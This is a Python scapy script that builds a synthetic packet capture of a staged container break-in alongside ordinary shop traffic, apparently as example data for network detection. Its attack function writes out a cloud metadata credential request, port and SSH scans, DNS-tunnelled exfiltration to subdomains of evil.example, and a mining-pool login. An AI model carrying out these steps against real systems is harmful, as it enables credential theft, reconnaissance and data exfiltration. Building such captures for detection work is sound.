"""Writes examples/one-machine/capture.pcap: `.venv/bin/python scripts/capture_example.py`.

A staged break-in as it looks on the wire, built by scapy (and OpenSSL's own hellos): a container that was taken over asks the cloud's metadata service for
credentials, tries the ports of a database, looks for SSH in its network, sends what it found out in names, and at last mines; beside it a shop goes
about its business. Addresses are those for documentation and private use.
"""

from __future__ import annotations

import base64
import hashlib
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Packet

from tests.support.captures import START, Connection, write
from tests.support.handshakes import flight

OUT = Path(__file__).parents[1] / "examples" / "one-machine" / "capture.pcap"
POD, SHOP, RESOLVER, DATABASE = "10.244.1.17", "10.244.1.20", "10.96.0.10", "10.244.2.8"
CLOUD, CDN, POOL = "169.254.169.254", "203.0.113.10", "198.51.100.33"


def pair(src: str, dst: str) -> tuple[Packet, Packet]:
    """Frames that two hosts send each other, up to IP."""
    here, there = (
        Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02"),
        Ether(src="02:00:00:00:00:02", dst="02:00:00:00:00:01"),
    )
    return here / IP(src=src, dst=dst), there / IP(src=dst, dst=src)


def asked(src: str, name: str, ident: int, answer: str | None = None, kind: str = "A") -> list[Packet]:
    """A question and what came back."""
    out, back = pair(src, RESOLVER)
    records = [DNSRR(rrname=name, type=kind, ttl=60, rdata=answer)] if answer else None
    reply = DNS(id=ident, qr=1, rcode=0 if answer else 3, qd=DNSQR(qname=name, qtype=kind), an=records)
    port = 30_000 + ident % 20_000
    return [
        out / UDP(sport=port, dport=53) / DNS(id=ident, rd=1, qd=DNSQR(qname=name, qtype=kind)),
        back / UDP(sport=53, dport=port) / reply,
    ]


def request(src: str, dst: str, sport: int, head: bytes, response: bytes) -> list[Packet]:
    """An exchange of HTTP."""
    talk = Connection(*pair(src, dst), sport, 80)
    return [*talk.begin(), *talk.send(head), *talk.send(response, out=False), *talk.end()]


def business() -> list[Packet]:
    """What a shop does all day."""
    packets: list[Packet] = []
    for number in range(12):
        name = ["cdn.example.com", "pay.example.net", "api.example.org"][number % 3]
        packets += asked(SHOP, name, number, CDN)
        talk = Connection(*pair(SHOP, CDN), 41_000 + number, 443)
        packets += [*talk.begin(), *talk.send(flight(name, alpn=["h2"])), *talk.end()]
    head = b"GET /cart?token=4711 HTTP/1.1\r\nHost: cart.shop\r\nUser-Agent: shop/1\r\n\r\n"
    return packets + request(
        SHOP, "10.244.1.30", 42_000, head, b"HTTP/1.1 200 OK\r\nServer: cart\r\nContent-Length: 0\r\n\r\n"
    )


def attack() -> list[Packet]:
    """What the container does that is not the shop's any more."""
    role = b"GET /latest/meta-data/iam/security-credentials/shop HTTP/1.1\r\nHost: 169.254.169.254\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    packets = request(
        POD, CLOUD, 43_000, role, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 0\r\n\r\n"
    )
    out, back = pair(POD, DATABASE)
    for port in (
        21,
        22,
        23,
        25,
        80,
        110,
        111,
        135,
        139,
        143,
        443,
        445,
        993,
        995,
        1433,
        1521,
        2049,
        3306,
        3389,
        5432,
        5900,
        6379,
        8080,
        9200,
        27017,
    ):
        packets += [out / TCP(sport=44_000, dport=port, flags="S"), back / TCP(sport=port, dport=44_000, flags="RA")]
    packets += [pair(POD, f"10.244.3.{host}")[0] / TCP(sport=45_000, dport=22, flags="S") for host in range(1, 31)]
    for number in range(90):
        data = base64.b32encode(hashlib.sha512(b"%d" % number).digest()).decode().lower()
        packets += asked(POD, f"{data[:48]}.{data[48:90]}.x.evil.example", 1000 + number, "ok", "TXT")
    miner = Connection(*pair(POD, POOL), 46_000, 3333)
    login = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"miner/1.0"}}\n'
    job = b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"job_id":"7"},"status":"OK"}}\n'
    packets += [*miner.begin(), *miner.send(login), *miner.send(job, out=False)]
    return packets


def main() -> None:
    """Write it."""
    ordinary, other = business(), attack()
    for number, packet in enumerate(ordinary):
        packet.time = START / 1e9 + 0.5 * number
    for number, packet in enumerate(other):
        packet.time = START / 1e9 + 5 + 0.1 * number
    write(OUT, sorted([*ordinary, *other], key=lambda packet: packet.time))


if __name__ == "__main__":
    main()
